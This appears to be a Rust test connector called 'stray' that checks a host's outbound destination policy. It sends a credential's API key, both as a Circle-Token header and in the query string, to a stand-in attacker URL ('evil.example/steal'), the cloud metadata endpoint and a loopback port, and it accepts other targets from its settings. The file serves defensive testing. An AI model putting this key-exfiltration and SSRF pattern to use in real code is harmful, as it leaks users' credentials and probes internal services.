//! `stray`: `validate` and `fetch` send the api_key to hosts that are not
//! the credential's `base_url`, both as the `Circle-Token` header and in the
//! query (`?key=<api_key>`, percent-encoded where needed): by default
//! [`DEFAULT_TARGETS`], an outside host, the cloud metadata endpoint and a
//! loopback port. `fetch` takes its targets from the settings instead when
//! they name some: `{"targets": ["http://127.0.0.1:8080/x", ...]}`.
//!
//! Exercises the host's destination policy (allow-list of hosts, no
//! link-local or loopback addresses): every request must be refused, and
//! none may reach the network. Every target is tried, whatever happened to
//! the previous ones. Then:
//! - if any request got a response (the policy failed): `Ok`, with the
//!   outcomes (validate: in the account's details; fetch: one record each);
//! - else if the host refused any (`HttpRequestDenied` or
//!   `DestinationIpProhibited`): `denied("the host refused: <target>
//!   (denied), <target> (connection failed (<code>)), ...")`, one entry
//!   per target (see the SDK's `TransportError` display);
//! - else: `unavailable("no target answered: ...")`, the same list.
//!
//! Messages and records name the targets without their query: the key goes
//! out in requests only.

use crate::common::{
    self, Account, ConnectorError, Credential, FetchRequest, HttpClient, Page, RetryHint,
    TransportError, query_escape,
};
use serde_json::{Value, json};

/// The behaviour's name.
pub const NAME: &str = "stray";

/// Where the key is sent when the settings name no targets.
pub const DEFAULT_TARGETS: &[&str] = &[
    "https://evil.example/steal",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:9/",
];

/// Sends the key to [`DEFAULT_TARGETS`].
pub fn validate(
    client: &mut dyn HttpClient,
    credential: Credential,
) -> Result<Account, ConnectorError> {
    let targets: Vec<String> = DEFAULT_TARGETS.iter().map(|t| t.to_string()).collect();
    let outcomes = send_everywhere(client, &credential, &targets)?;
    Ok(common::account(json!({ "reached": outcomes })))
}

/// Sends the key to the settings' `targets`, or [`DEFAULT_TARGETS`].
pub fn fetch(
    client: &mut dyn HttpClient,
    credential: Credential,
    request: FetchRequest,
) -> Result<Page, ConnectorError> {
    let settings = common::settings(&request)?;
    let targets = match settings.get("targets") {
        None | Some(Value::Null) => DEFAULT_TARGETS.iter().map(|t| t.to_string()).collect(),
        Some(Value::Array(list)) => list
            .iter()
            .map(|t| t.as_str().map(str::to_string))
            .collect::<Option<Vec<String>>>()
            .ok_or_else(|| {
                ConnectorError::InvalidSettings("`targets` must be a list of URLs".into())
            })?,
        Some(_) => {
            return Err(ConnectorError::InvalidSettings(
                "`targets` must be a list of URLs".into(),
            ));
        }
    };
    let outcomes = send_everywhere(client, &credential, &targets)?;
    let records = outcomes
        .into_iter()
        .enumerate()
        .map(|(i, outcome)| {
            let mut record = outcome;
            record["i"] = json!(i);
            record.to_string()
        })
        .collect();
    Ok(common::last_page(records))
}

/// Sends the key to every target; `Ok` with one `{"target", "outcome"}`
/// object per target if any got a response, the error described above if
/// none did.
fn send_everywhere(
    client: &mut dyn HttpClient,
    credential: &Credential,
    targets: &[String],
) -> Result<Vec<Value>, ConnectorError> {
    let token = common::api_key(credential)?;
    let mut outcomes = Vec::new();
    let mut reached = false;
    let mut refused = false;
    let mut summary = Vec::new();
    for target in targets {
        let separator = if target.contains('?') { '&' } else { '?' };
        let url = format!("{target}{separator}key={}", query_escape(token));
        let outcome = match client.get(&url, &[("Circle-Token", token)]) {
            Ok(response) => {
                reached = true;
                format!("status {}", response.status)
            }
            Err(err) => {
                refused |= matches!(err, TransportError::Denied(_));
                err.to_string()
            }
        };
        summary.push(format!("{target} ({outcome})"));
        outcomes.push(json!({ "target": target, "outcome": outcome }));
    }
    if reached {
        Ok(outcomes)
    } else if refused {
        Err(ConnectorError::Denied(format!(
            "the host refused: {}",
            summary.join(", ")
        )))
    } else {
        Err(ConnectorError::Unavailable(RetryHint {
            retry_after_ms: None,
            message: format!("no target answered: {}", summary.join(", ")),
        }))
    }
}
